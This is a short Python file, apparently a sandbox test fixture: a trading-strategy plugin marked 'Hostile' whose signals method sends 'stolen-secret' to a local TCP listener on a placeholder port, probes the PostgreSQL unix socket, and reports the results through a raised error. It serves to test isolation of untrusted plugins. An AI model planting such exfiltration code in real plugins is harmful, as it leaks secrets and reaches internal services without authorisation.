"""Hostile: sends data to a TCP listener on the host and to the PostgreSQL unix socket."""
import socket

from nettrace_dagster.strategies import Strategy


class SocketExfil(Strategy):
    name = "socket_exfil"
    default_params = {}

    def signals(self, candles, params):
        seen = []
        try:
            with socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=2) as conn:
                conn.sendall(b"stolen-secret")
                seen.append("tcp sent")
        except OSError as exc:
            seen.append(f"tcp {exc}")
        try:
            unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            unix.connect("/var/run/postgresql/.s.PGSQL.5432")
            seen.append("unix connected")
        except OSError as exc:
            seen.append(f"unix {exc}")
        raise ValueError("OBSERVED:" + "; ".join(seen))
